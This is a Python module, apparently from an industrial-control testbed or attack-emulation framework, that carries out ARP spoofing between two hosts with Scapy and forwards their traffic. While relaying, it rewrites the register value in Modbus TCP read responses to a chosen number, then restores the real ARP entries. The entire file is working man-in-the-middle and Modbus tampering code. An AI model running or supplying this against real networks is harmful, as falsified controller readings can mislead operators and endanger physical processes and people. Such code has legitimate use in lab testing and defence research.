"""Between two devices: forged ARP answers, and Modbus values changed on the way."""

import time

from scapy.all import ARP, IP, TCP, Ether, Raw, conf, get_if_hwaddr, sendp, sniff


def mac(life, name):
    return life.plant.hosts[name].mac if name in life.plant.hosts else life.plant.router_mac(0)


def spoof(life, step):
    """Tells `victim` and `peer` that each is here; forwards what they say, with the answers' register changed."""
    conf.verb = 0
    own = get_if_hwaddr("eth0")
    a, b = step["victim"], step["peer"]
    ip_a, ip_b = life.address(a), life.address(b)
    mac_a, mac_b = mac(life, a), mac(life, b)
    end = time.time() + min(step.get("seconds", 15), 60)
    due = [0.0]

    def forge():
        if time.time() >= due[0]:
            due[0] = time.time() + 1
            sendp([Ether(src=own, dst=mac_a) / ARP(op=2, hwsrc=own, psrc=ip_b, hwdst=mac_a, pdst=ip_a),
                   Ether(src=own, dst=mac_b) / ARP(op=2, hwsrc=own, psrc=ip_a, hwdst=mac_b, pdst=ip_b)], iface="eth0")

    def forward(p):
        forge()
        if p[Ether].dst != own or IP not in p or {p[IP].src, p[IP].dst} != {ip_a, ip_b}:
            return
        q = IP(bytes(p[IP])[: p[IP].len])
        if p[IP].src == ip_b and TCP in q and q[TCP].sport == 502 and Raw in q:
            data = bytearray(q[Raw].load)
            if len(data) >= 11 and data[7] == 3 and data[8] >= 2:
                data[9:11] = int(step.get("value", 600)).to_bytes(2, "big")
                q[Raw].load = bytes(data)
        del q.chksum
        if TCP in q:
            del q[TCP].chksum
        sendp(Ether(src=own, dst=mac_b if p[IP].src == ip_a else mac_a) / q, iface="eth0")

    forge()
    while time.time() < end:
        sniff(iface="eth0", prn=forward, store=False, timeout=1, filter=f"ip host {ip_a} and ip host {ip_b} and ether dst {own}")
        forge()
    # What an orderly attacker does at the end: the true owners again.
    sendp([Ether(src=own, dst=mac_a) / ARP(op=2, hwsrc=mac_b, psrc=ip_b, hwdst=mac_a, pdst=ip_a),
           Ether(src=own, dst=mac_b) / ARP(op=2, hwsrc=mac_a, psrc=ip_a, hwdst=mac_b, pdst=ip_b)] * 2, iface="eth0")
